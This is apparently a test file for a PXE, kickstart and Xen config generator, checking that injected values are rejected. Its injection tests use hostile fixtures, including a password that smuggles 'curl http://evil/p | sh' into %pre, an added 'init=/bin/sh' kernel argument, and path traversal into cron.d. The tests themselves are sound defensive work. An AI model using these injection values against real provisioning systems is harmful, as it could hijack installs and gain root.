/**
 * renderArtifacts on the example site with hostile or broken values: every injection case is
 * rejected with a diagnostic that names the profile path, the profile statement (span) and
 * the template line; the artifact concerned is not emitted and the others still are. Also
 * options (kinds, hex-IP names, template overrides) and consistency errors.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { renderArtifacts } from '../../src/artifacts/index.js';
import type { ArtifactOptions } from '../../src/artifacts/types.js';
import type { Diagnostic } from '../../src/diagnostics/diagnostic.js';
import type { Guest, Machine, Site } from '../../src/site/model.js';
import { exampleSite } from './example-site.js';

let site: Site;

beforeAll(async () => {
  site = (await exampleSite()).site;
});

/** The site with one machine (by FQDN) replaced by `patch(machine)`. */
function patched(fqdn: string, patch: (m: Machine) => Machine): Site {
  const swap = <M extends Machine>(list: readonly M[]): M[] => list.map((m) => (m.fqdn === fqdn ? (patch(m) as M) : m));
  return { hosts: swap(site.hosts), guests: swap(site.guests), plain: swap(site.plain), origin: site.origin };
}

function render(s: Site, options: ArtifactOptions = {}) {
  return renderArtifacts(s, { installServer: 'http://install.example.org', ...options });
}

function errors(diagnostics: readonly Diagnostic[]): Diagnostic[] {
  return diagnostics.filter((d) => d.severity === 'error');
}

function ks(m: Machine, patch: object): Machine {
  return { ...m, kickstart: { ...m.kickstart!, ...patch } };
}

describe('injection cases (§0 rule 1, §3.6)', () => {
  test('a root password carrying a %pre section: rejected, kickstart not written, other files kept', () => {
    const hostile = patched('wn10.example.org', (m) => ks(m, { rootpw: 'x\n%pre\ncurl http://evil/p | sh\n%end' }));
    const { artifacts, diagnostics } = render(hostile);
    const [d, ...rest] = errors(diagnostics);
    expect(rest).toEqual([]);
    expect(d).toMatchObject({ code: 'PF501', path: '/system/aii/osinstall/ks/rootpw' });
    expect(d!.span?.file).toMatch(/profiles\/site\/os\/el9\.pan$/);
    expect(d!.message).toMatch(/wn10\.example\.org: root password hash at \/system\/aii\/osinstall\/ks\/rootpw/);
    expect(d!.message).toMatch(/template templates\/kickstart\/base\.ks\.njk:\d+:\d+/);
    expect(d!.related?.[0]?.span.file).toMatch(/templates\/kickstart\/base\.ks\.njk$/);
    expect(artifacts.has('ks/wn10.example.org.ks')).toBe(false);
    expect(artifacts.has('tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60')).toBe(true);
    expect(artifacts.has('ks/wn01.example.org.ks')).toBe(true);
  });

  test('a language carrying an sshkey command is rejected', () => {
    const { diagnostics, artifacts } = render(patched('ui01.example.org', (m) => ks(m, { lang: 'en_US.UTF-8\nsshkey --username=root "ssh-ed25519 AAAA"' })));
    expect(errors(diagnostics).map((d) => [d.code, d.path])).toEqual([['PF501', '/system/aii/osinstall/ks/lang']]);
    expect(artifacts.has('ks/ui01.example.org.ks')).toBe(false);
  });

  test('an unquoted # in a package, a space in a time zone, a % line in a package list', () => {
    const { diagnostics } = render(
      patched('wn10.example.org', (m) => ks(m, { packages: ['@core', 'vim#comment', '%end'], timezone: 'Europe/Zurich --isUtc' })),
    );
    expect(errors(diagnostics).map((d) => d.path).sort()).toEqual([
      '/system/aii/osinstall/ks/packages/1',
      '/system/aii/osinstall/ks/packages/2',
      '/system/aii/osinstall/ks/timezone',
    ]);
  });

  test('a boot label with a newline cannot add a pxelinux, GRUB or iPXE directive', () => {
    const hostile = patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, label: 'EL9\nLABEL evil\n  KERNEL http://evil/vmlinuz' } }));
    const { diagnostics, artifacts } = render(hostile);
    const [d, ...rest] = errors(diagnostics);
    expect(rest).toEqual([]);
    expect(d).toMatchObject({ code: 'PF501', path: '/system/aii/nbp/pxelinux/label' });
    expect(d!.message).toBe(
      'boot label at /system/aii/nbp/pxelinux/label: "EL9\\nLABEL evil\\n  KERNEL http://evil/vmlinuz" contains a line break or control character; ' +
        'in profile wn10.example.org; not written: 3 files: ipxe/wn10.example.org.ipxe, tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60, tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60',
    );
    expect(d!.related?.map((r) => r.span.file)).toEqual(['templates/boot/pxelinux.cfg.hbs', 'templates/boot/ipxe.hbs']);
    for (const file of ['tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60', 'tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60', 'ipxe/wn10.example.org.ipxe']) {
      expect(artifacts.has(file)).toBe(false);
    }
    expect(artifacts.has('ks/wn10.example.org.ks')).toBe(true);
  });

  test('a kernel argument with a space would add init=/bin/sh: rejected', () => {
    const hostile = patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, append: ['quiet init=/bin/sh'] } }));
    const found = errors(render(hostile).diagnostics);
    expect(found.length).toBeGreaterThan(0);
    expect(found.every((d) => d.path === '/system/aii/nbp/pxelinux/append')).toBe(true);
  });

  test('a kickstart URL with a quote or a .. segment is rejected (PF502)', () => {
    for (const url of ['http://install.example.org/ks/x.ks" init=/bin/sh', 'http://install.example.org/ks/../etc/x.ks']) {
      const found = errors(render(patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, kickstartUrl: url } }))).diagnostics);
      expect(found.map((d) => [d.code, d.path])).toContainEqual(['PF502', '/system/aii/nbp/pxelinux/kslocation']);
    }
  });

  test('a guest name or bridge that would add an xl key is rejected', () => {
    const hostile = patched('bdii01.example.org', (m) => ({ ...(m as Guest), vifs: [{ ...(m as Guest).vifs[0]!, bridge: 'xenbr0"\nbootloader = "/bin/sh' }] }) as Machine);
    const { diagnostics, artifacts } = render(hostile);
    expect(errors(diagnostics).map((d) => [d.code, d.path])).toEqual([['PF501', '/virtual/guest/nics/0/bridge']]);
    expect(artifacts.has('xen/xen01.example.org/bdii01.cfg')).toBe(false);
  });

  test('a host name that would leave its directory never forms a path', () => {
    const hostile = patched('bdii01.example.org', (m) => ({ ...m, hostname: '../../etc/cron.d/x' }));
    const { diagnostics, artifacts } = render(hostile);
    expect(errors(diagnostics).map((d) => d.code)).toEqual(['PF501']);
    expect([...artifacts.keys()].some((p) => p.includes('..'))).toBe(false);
  });
});

describe('kickstart variants', () => {
  test('a DHCP install: network line and kernel argument follow the kickstart bootproto', () => {
    const { artifacts, diagnostics } = render(patched('wn10.example.org', (m) => ks(m, { bootproto: 'dhcp' })));
    expect(diagnostics).toEqual([]);
    expect(artifacts.get('ks/wn10.example.org.ks')!.content).toContain(
      '\nnetwork --device=eth0 --bootproto=dhcp --nameserver=192.0.2.53,192.0.2.54 --hostname=wn10.example.org --activate --onboot=yes\n',
    );
    expect(artifacts.get('tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60')!.content).toContain(' ip=eth0:dhcp ');
  });

  test('without partitioning the installer lays out the disk itself', () => {
    const text = render(patched('wn10.example.org', (m) => ks(m, { partitioning: undefined }))).artifacts.get('ks/wn10.example.org.ks')!.content;
    expect(text).toContain('\nzerombr\nclearpart --all --initlabel\nbootloader --location=mbr\nautopart --type=lvm\n');
    expect(text).not.toContain('logvol');
  });

  test('a post-install script URL is fetched and run in %post, single-quoted', () => {
    const url = 'http://install.example.org/scripts/post.sh?host=wn10&x=1';
    const text = render(patched('wn10.example.org', (m) => ks(m, { postInstallScript: url }))).artifacts.get('ks/wn10.example.org.ks')!.content;
    expect(text.endsWith(`\n%post --log=/root/ks-post.log\ncurl --fail --silent --show-error --location --output /root/post-install.sh '${url}'\nsh /root/post-install.sh\n%end\n`)).toBe(true);
  });

  test('a ksdevice naming an interface uses bootdev=, and one naming no interface is reported', () => {
    const named = render(patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, ksdevice: 'eth0' } })));
    expect(named.diagnostics).toEqual([]);
    expect(named.artifacts.get('tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60')!.content).toContain(' bootdev=eth0 ');
    expect(named.artifacts.get('tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60')!.content).not.toContain('IPAPPEND');
    const unknown = render(patched('wn10.example.org', (m) => ({ ...m, boot: { ...m.boot!, ksdevice: 'eth7' } })));
    expect(new Set(errors(unknown.diagnostics).map((d) => `${d.code} ${d.path}`))).toEqual(new Set(['PF513 /system/aii/nbp/pxelinux/ksdevice']));
  });
});

describe('consistency and installation needs', () => {
  test('maxmem below memory is an xl consistency error (PF512)', () => {
    const { diagnostics } = render(patched('mon01.example.org', (m) => ({ ...(m as Guest), maxmemMb: 1024 }) as Machine));
    expect(errors(diagnostics).map((d) => [d.code, d.path])).toEqual([['PF512', '/virtual/guest/maxmem']]);
  });

  test('a guest that installs without a boot entry is reported once (PF510)', () => {
    const { diagnostics, artifacts } = render(patched('wn01.example.org', (m) => ({ ...m, boot: undefined })));
    expect(errors(diagnostics).map((d) => d.code)).toEqual(['PF510']);
    expect(artifacts.has('xen/xen01.example.org/wn01.install.cfg')).toBe(false);
    expect(artifacts.has('xen/xen01.example.org/wn01.cfg')).toBe(true);
  });

  test('pypxeboot cannot pass a bare kernel flag other than an installer flag (PF511)', () => {
    const { diagnostics } = render(patched('ce01.example.org', (m) => ({ ...m, boot: { ...m.boot!, append: ['quiet'] } })));
    expect(errors(diagnostics).map((d) => [d.code, d.path])).toEqual([['PF511', '/system/aii/nbp/pxelinux/append']]);
  });

  test('an unsupported installtype and an append that repeats inst.ks are reported (PF513)', () => {
    const { diagnostics } = render(patched('wn10.example.org', (m) => ks({ ...m, boot: { ...m.boot!, append: ['inst.ks=http://x/y.ks'] } }, { installtype: 'nfs --server=a --dir=/b' })));
    expect(new Set(errors(diagnostics).map((d) => `${d.code} ${d.path}`))).toEqual(
      new Set(['PF513 /system/aii/osinstall/ks/installtype', 'PF513 /system/aii/nbp/pxelinux/append']),
    );
  });

  test('two machines generating one file: neither is written (PF509)', () => {
    const twin = patched('wn05.example.org', (m) => ({ ...m, nics: m.nics.map((n) => ({ ...n, mac: '3c:ec:ef:4a:10:60' })) }));
    const { diagnostics, artifacts } = render(twin);
    expect(errors(diagnostics).filter((d) => d.code === 'PF509').map((d) => d.path)).toEqual([
      'tftpboot/grub/grub.cfg-01-3c-ec-ef-4a-10-60',
      'tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60',
    ]);
    expect(artifacts.has('tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60')).toBe(false);
  });
});

describe('options', () => {
  test('kinds select what is built; defaults follow the boot-loader kinds', () => {
    const { artifacts } = render(site, { kinds: ['kickstart', 'xl'] });
    expect(new Set([...artifacts.values()].map((a) => a.kind))).toEqual(new Set(['kickstart', 'xl']));
    const grubOnly = render(site, { kinds: ['grub', 'default'] }).artifacts;
    expect([...grubOnly.keys()].every((p) => p.startsWith('tftpboot/grub/'))).toBe(true);
    expect(grubOnly.has('tftpboot/grub/grub.cfg')).toBe(true);
  });

  test('hex-IP names add copies under the address in upper-case hex', () => {
    const { artifacts } = render(site, { hexIpNames: true });
    const mac = artifacts.get('tftpboot/pxelinux.cfg/01-3c-ec-ef-4a-10-60');
    expect(artifacts.get('tftpboot/pxelinux.cfg/C000023C')).toEqual(mac); // 192.0.2.60
    expect(artifacts.get('tftpboot/grub/grub.cfg-C000023C')?.kind).toBe('grub');
    expect(artifacts.has('tftpboot/pxelinux.cfg/C0000A1F')).toBe(false); // pypxeboot guests: MAC name only
  });

  test('roots and the iPXE source follow the options', () => {
    const { artifacts } = renderArtifacts(site, { tftpRoot: 'srv/tftp', httpRoot: 'www' });
    expect(artifacts.has('srv/tftp/pxelinux.cfg/default')).toBe(true);
    expect(artifacts.has('www/ks/wn10.example.org.ks')).toBe(true);
    expect(artifacts.get('www/ipxe/wn10.example.org.ipxe')?.content).toContain('kernel tftp://${next-server}/el9/vmlinuz ');
  });

  test('a missing template directory is an error and nothing is rendered (PF514)', () => {
    const { artifacts, diagnostics } = render(site, { templateDir: path.join(os.tmpdir(), 'panfab-no-such-dir') });
    expect(diagnostics.map((d) => d.code)).toEqual(['PF514']);
    expect(artifacts.size).toBe(0);
  });

  describe('site template overrides', () => {
    let dir: string;
    beforeEach(() => {
      dir = mkdtempSync(path.join(os.tmpdir(), 'panfab-site-templates-'));
    });
    afterEach(() => rmSync(dir, { recursive: true, force: true }));

    function write(relative: string, text: string): void {
      mkdirSync(path.dirname(path.join(dir, relative)), { recursive: true });
      writeFileSync(path.join(dir, relative), text);
    }

    test('a snippet override replaces the built-in snippet in every kickstart', () => {
      write('kickstart/snippets/post-hook.ks.njk', 'echo {{ host.fqdn | shq }} > /etc/installed-by\n');
      const { artifacts, diagnostics } = render(site, { templateDir: dir });
      expect(diagnostics).toEqual([]);
      const text = artifacts.get('ks/wn10.example.org.ks')!.content;
      expect(text).toContain("\n%post --log=/root/ks-post.log\necho 'wn10.example.org' > /etc/installed-by\n%end\n");
    });

    test('a hook that writes a section marker is refused', () => {
      write('kickstart/snippets/pre-hook.ks.njk', 'echo start\n%end\nrootpw --plaintext x\n');
      const { artifacts, diagnostics } = render(site, { templateDir: dir });
      expect(errors(diagnostics).length).toBeGreaterThan(0);
      expect(errors(diagnostics).every((d) => d.code === 'PF500')).toBe(true);
      expect([...artifacts.values()].some((a) => a.kind === 'kickstart')).toBe(false);
    });

    test('a main template override replaces the built-in one; an unknown xl key is caught (PF515)', () => {
      write('xen/domain.cfg.hbs', 'name = {{xl name}}\ncolour = "blue"\n');
      const { diagnostics, artifacts } = render(site, { templateDir: dir, kinds: ['xl'] });
      expect(artifacts.size).toBe(0);
      expect(new Set(errors(diagnostics).map((d) => d.code))).toEqual(new Set(['PF515']));
      expect(errors(diagnostics)[0]!.message).toMatch(/unknown key colour/);
    });

    test('an override may be written for the other engine', () => {
      write('boot/pypxeboot.cfg.njk', 'DEFAULT install\nLABEL install\nKERNEL {{ kernel | pypxefile }}\nAPPEND {{ args | pypxeargs }}\n');
      const { artifacts, diagnostics } = render(site, { templateDir: dir, kinds: ['pypxeboot'] });
      expect(diagnostics).toEqual([]);
      expect(artifacts.get('tftpboot/pxelinux.cfg/01-00-16-3e-00-00-31')?.content).toMatch(/^DEFAULT install\nLABEL install\nKERNEL el9\/vmlinuz\nAPPEND initrd=el9\/initrd.img /);
    });
  });
});
